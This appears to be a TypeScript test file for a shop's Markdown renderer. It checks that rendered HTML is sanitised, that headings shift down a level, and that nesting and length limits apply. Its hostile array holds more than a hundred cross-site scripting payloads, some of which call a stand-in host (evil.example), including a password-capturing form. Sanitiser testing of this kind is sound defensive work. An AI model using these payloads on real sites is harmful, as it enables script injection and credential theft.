import fc from 'fast-check';
import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5';
import { describe, expect, it } from 'vitest';
import { runs } from '../../../test/runs.ts';
import { markdownToText } from './markdown-to-text.ts';
import { renderMarkdown } from './render-markdown.ts';

const FORBIDDEN_ELEMENTS =
  /^(script|style|link|meta|base|iframe|frame|frameset|object|embed|applet|form|input|button|select|textarea|svg|math|template|noscript|audio|video|source|picture|dialog|portal|marquee|html|head|body)$/;
const GOOD_ADDRESS = /^(?:https?:|mailto:|tel:|[^:]*$|[^:]*[/?#])/i;

/** What a browser would make of the HTML that must not be there. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const visit = (nodes: readonly DefaultTreeAdapterTypes.ChildNode[]) => {
    for (const node of nodes) {
      if (!('tagName' in node)) continue;
      if (FORBIDDEN_ELEMENTS.test(node.tagName) || node.tagName === 'h1') found.push(node.tagName);
      for (const { name, value } of node.attrs) {
        if (/^on|^style$|^id$|^name$|^class$|^srcdoc$|^formaction$|^xlink|:/i.test(name)) found.push(name);
        // Browsers leave out white space and control characters before they look for a protocol.
        // biome-ignore lint/suspicious/noControlCharactersInRegex: these characters are what attackers use
        const address = value.replace(/[\u0000-\u0020]/g, '');
        if (['href', 'src'].includes(name) && !GOOD_ADDRESS.test(address)) found.push(`${name}=${value}`);
      }
      visit(node.childNodes);
    }
  };
  visit(parseFragment(html).childNodes);
  return found;
}

const codeOf = (work: () => unknown): unknown => {
  try {
    work();
    return undefined;
  } catch (error) {
    return error;
  }
};

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script\n>alert(1)</script\t>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x\nonerror\n=\nalert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="x 1x, javascript:alert(1) 2x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><a xlink:href=javascript:alert(1)>x</a></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>">',
  '<noframes><img title="</noframes><img src onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example/beacon)">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src=javascript:alert(1)></frameset>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<applet code=x></applet>',
  '<form action=https://evil.example/><input name=password type=password><button>Log in</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<input type=image src=x onerror=alert(1)>',
  '<input type=checkbox>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<select onfocus=alert(1) autofocus><option>x</select>',
  '<textarea onfocus=alert(1) autofocus>x</textarea>',
  '<keygen autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src onerror=alert(1)>',
  '<video poster=javascript:alert(1)></video>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<html onclick=alert(1)><body background=javascript:alert(1)>',
  '<table background=javascript:alert(1)><td background=javascript:alert(1)>x',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://shop.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href=x target=_blank ping=https://evil.example onmouseover=alert(1)>x</a>',
  '<a id=location name=location href=x>x</a>',
  '<p id=config class="fixed inset-0">x</p>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](java&#115;cript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](javascript\\:alert(1))',
  '[x](&#x1;javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:image/gif;base64,R0lGOD)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x" onerror="alert(1)](y)',
  '![x](y"onerror="alert(1))',
  '[x](y "z\\" onmouseover=\\"alert(1)")',
  '[x](<y" onmouseover="alert(1)>)',
  '[x][a]\n\n[a]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  'https://a.example/"onmouseover="alert(1)',
  'https://a.example/<script>alert(1)</script>',
  '`<script>alert(1)</script>`',
  '```"><script>alert(1)</script>\nx\n```',
  '```<img src=x onerror=alert(1)>\nx\n```',
  '    <script>alert(1)</script>',
  '# <script>alert(1)</script>',
  '> <img src=x onerror=alert(1)>',
  '- <iframe src=x>',
  '|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|',
  '|a|\n|:-" onmouseover="alert(1)|\n|b|',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<a href="https://a.example"\u2028onclick=alert(1)>x</a>',
  '<x onclick=alert(1)>x</x>',
  '<custom-element is=x onclick=alert(1)>',
  '</p><script>alert(1)</script><p>',
  '</div></main></body><script>alert(1)</script>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '＜script＞alert(1)＜/script＞',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<a href="//evil.example/&quot;><script>alert(1)</script>">x</a>',
];

describe('Markdown as HTML', () => {
  it.each(hostile)('runs, styles, frames and sends nothing: %j', (text) => {
    expect(dangers(renderMarkdown(text))).toEqual([]);
  });

  it.each([
    'a<script>alert(1)</script>b',
    'a<style>p{background:url(x)}</style>b',
    'a<iframe srcdoc="evil"></iframe>b',
    'a<svg><style>alert</style></svg>b',
    'a<span style="color:evil" onclick="alert(1)" class="evil" id="evil"></span>b',
    'a<input value="evil">b',
    'a<img src="data:evil">b',
    'a[](javascript:alert)b',
    'a[](data:evil)b',
    'a<a href="javascript:alert(1)"></a>b',
  ])('leaves nothing of it: %j', (text) => {
    expect(renderMarkdown(text).replace(/<span><\/span>|<a><\/a>|<img loading="lazy">/, '')).toBe('<p>ab</p>');
  });

  it('runs nothing, whatever stands beside what', () => {
    const pieces = fc.oneof(
      fc.constantFrom(
        ...hostile,
        '<',
        '>',
        '"',
        "'",
        '`',
        '[',
        ']',
        '(',
        ')',
        '\n',
        '\n\n',
        '&',
        '#',
        '|',
        '<p>',
        '</p>',
      ),
      fc.string({ maxLength: 10 }),
    );
    const texts = fc.array(pieces, { maxLength: 12 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(texts, (text) => {
        const html = renderMarkdown(text);
        expect(dangers(html)).toEqual([]);
      }),
      { numRuns: runs(2000) },
    );
  });

  it('has what texts of a shop need', () => {
    expect(
      renderMarkdown('Two *kinds* of **tea**, ~~three~~\nand `code`\n\n- one\n- two\n\n3. c\n\n> said\n\n---'),
    ).toBe(
      [
        '<p>Two <em>kinds</em> of <strong>tea</strong>, <s>three</s><br>\nand <code>code</code></p>',
        '<ul>\n<li>one</li>\n<li>two</li>\n</ul>',
        '<ol start="3">\n<li>c</li>\n</ol>',
        '<blockquote>\n<p>said</p>\n</blockquote>',
        '<hr>',
      ].join('\n'),
    );
  });

  it('moves headings down by one, also those in HTML; the sixth stays', () => {
    const text = '# a\n## b\n##### e\n###### f\n\n<h1 align=center>g</h1>';
    expect(renderMarkdown(text)).toBe('<h2>a</h2>\n<h3>b</h3>\n<h6>e</h6>\n<h6>f</h6>\n<h2>g</h2>');
  });

  it('aligns cells of tables by their attribute', () => {
    const html = renderMarkdown('|a|b|c|\n|:-|:-:|-:|\n|1|2|3|');
    expect(html).toMatch(/<td align="left">1<.*<td align="center">2<.*<td align="right">3</s);
    expect(html).not.toContain('style');
  });

  it.each([
    ['https://a.example/b', true],
    ['HTTP://a.example', true],
    ['Https://a.example', true],
    ['//a.example', true],
    ['/\\a.example', true],
    ['\\\\a.example', true],
    ['http://[', true],
    ['/page/terms', false],
    ['page', false],
    ['#part', false],
    ['?q=a', false],
    ['mailto:a@b.example', false],
    ['tel:+49123', false],
  ])('%s is told to be a link to another site: %s', (href, away) => {
    const rel = ' rel="noopener nofollow"';
    expect(renderMarkdown(`<a href="${href}">x</a>`).includes(rel)).toBe(away);
  });

  it('makes links of addresses with their protocol and of mails, and not of names', () => {
    expect(renderMarkdown('https://a.example a@b.example shop.com')).toBe(
      '<p><a href="https://a.example" rel="noopener nofollow">https://a.example</a> <a href="mailto:a@b.example">a@b.example</a> shop.com</p>',
    );
  });

  it('is empty for nothing', () => {
    expect(['', ' \n ', '<script>x</script>'].map((text) => renderMarkdown(text))).toEqual(['', '', '']);
  });
});

describe('Markdown that nests', () => {
  const refused = expect.objectContaining({ code: 'INVALID_INPUT' });
  const nested = (depth: number) => [
    `${'>'.repeat(depth)} a`,
    `${'- '.repeat(depth)}a`,
    `${'1. '.repeat(depth)}a`,
    `${'<div>'.repeat(depth)}a`,
    `<b>a`.repeat(depth),
    `${'*'.repeat(2 * depth)}a${'*'.repeat(2 * depth)}`,
  ];

  it.each(nested(100))('100 deep is rendered', (text) => {
    expect(renderMarkdown(text)).toContain('a');
  });

  it.each([...nested(101), ...nested(20_000)])('deeper is refused', (text) => {
    expect(codeOf(() => renderMarkdown(text))).toEqual(refused);
  });

  it('is refused with the place of the text', () => {
    expect(codeOf(() => renderMarkdown('>'.repeat(101), 'home.2.markdown'))).toMatchObject({
      details: { errors: [{ path: 'home.2.markdown', message: 'It nests deeper than 100' }] },
    });
  });
});

describe('a text of 100,000 characters', () => {
  const long = (text: string) => text.repeat(Math.ceil(100_000 / text.length)).slice(0, 100_000);

  it.each(['word ', 'a\n', '- a\n', '# a\n', 'a *b* [c](https://d.example)\n\n', '|a|b|\n'])(
    'of %j is rendered',
    (text) => {
      expect(renderMarkdown(long(text)).length).toBeGreaterThan(90_000);
    },
  );

  it('that would take long is refused', () => {
    const quotes = `${'>'.repeat(100)}${long('\na')}`;
    const table = `|a|b|\n|-|-|\n${long('|\n')}`;
    const formats = `${'<b a=1><i a=2>'.repeat(20)}${long('<p>a')}`;
    for (const text of [quotes, table, formats]) {
      expect(codeOf(() => renderMarkdown(text))).toMatchObject({
        details: { errors: [{ path: 'markdown', message: 'It has too many elements' }] },
      });
    }
  });

  // Each of them took minutes without the limits; a test that runs out of time fails.
  it.each(['[', '![', '[a](', '*_', '`a', '<a ', '<!--', '&', '> ', '<b>', '~a ~~b ', '[a\n'])('of %j ends', (text) => {
    const outcome = codeOf(() => renderMarkdown(long(text)));
    expect([undefined, 'INVALID_INPUT']).toContain(
      outcome instanceof Object && 'code' in outcome ? outcome.code : undefined,
    );
  });
});

describe('Markdown as text', () => {
  it('is without marks, with the addresses of links', () => {
    const text =
      '# Hello *you*\n\nSee [our shop](https://a.example) and <https://a.example/>.\n\n- a\n- b\n\n<script>x</script>';
    expect(markdownToText(text)).toBe(
      'Hello you\n\nSee our shop (https://a.example) and https://a.example/.\n\n * a\n * b',
    );
  });

  it('keeps what looks like HTML as it was written', () => {
    expect(markdownToText('`<b>` & 1 < 2')).toBe('<b> & 1 < 2');
  });
});
